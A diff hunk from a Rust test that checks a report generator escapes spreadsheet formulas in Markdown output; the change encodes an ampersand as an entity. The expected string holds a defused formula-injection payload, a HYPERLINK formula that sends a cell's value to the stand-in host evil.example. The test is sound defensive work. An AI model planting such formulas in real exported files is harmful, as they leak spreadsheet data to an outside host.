@@ -289,7 +289,8 @@ fn report_writes_no_formulas() {
         assert!(md.contains(cell), "{cell:?} in {md}");
     }
     assert!(
-        md.contains("| '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") |"),
+        // `&` as an entity: Markdown cells are text, never HTML.
+        md.contains("| '=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"x\") |"),
         "{md}"
     );
     assert!(
